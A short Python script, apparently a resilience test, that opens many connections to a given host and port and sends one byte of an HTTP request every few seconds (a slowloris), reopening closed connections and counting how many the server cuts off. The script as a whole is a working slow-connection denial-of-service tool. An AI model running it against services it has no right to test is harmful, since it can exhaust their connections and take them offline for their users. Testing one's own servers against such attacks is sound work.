#!/usr/bin/env python3
"""Holds N slow connections against a service for D seconds: each sends one byte of a
request head every INTERVAL seconds (a slowloris). A connection the service closes is
opened again, so N stay held. Prints how many the service cut off.

    slow_clients.py HOST PORT N SECONDS [INTERVAL=3]
"""
import selectors
import socket
import sys
import time

host, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
interval = float(sys.argv[5]) if len(sys.argv) > 5 else 3.0
head = b"GET /health-check/liveness HTTP/1.1\r\nHost: lento\r\nX-Lento: " + b"a" * 4000 + b"\r\n\r\n"

sel = selectors.DefaultSelector()
conns = {}  # socket -> bytes sent
cut = 0


def open_one():
    s = socket.socket()
    s.setblocking(False)
    try:
        s.connect((host, port))
    except BlockingIOError:
        pass
    conns[s] = 0
    sel.register(s, selectors.EVENT_READ)


def drop(s):
    sel.unregister(s)
    del conns[s]
    s.close()


for _ in range(count):
    open_one()
end = time.time() + seconds
next_tick = time.time()
while time.time() < end:
    timeout = max(0.0, min(next_tick, end) - time.time())
    for key, _ in sel.select(timeout):
        s = key.fileobj
        try:
            data = s.recv(65536)
        except OSError:
            data = b""
        cut += 1
        drop(s)  # answered (408) or closed: the service let go of it
        open_one()
    if time.time() >= next_tick:
        next_tick += interval
        for s in list(conns):
            i = conns[s]
            try:
                s.send(head[i : i + 1])
                conns[s] = i + 1
            except (BlockingIOError, OSError):
                pass
for s in list(conns):
    drop(s)
print(f"conexoes_lentas={count} cortadas_pelo_servico={cut}")
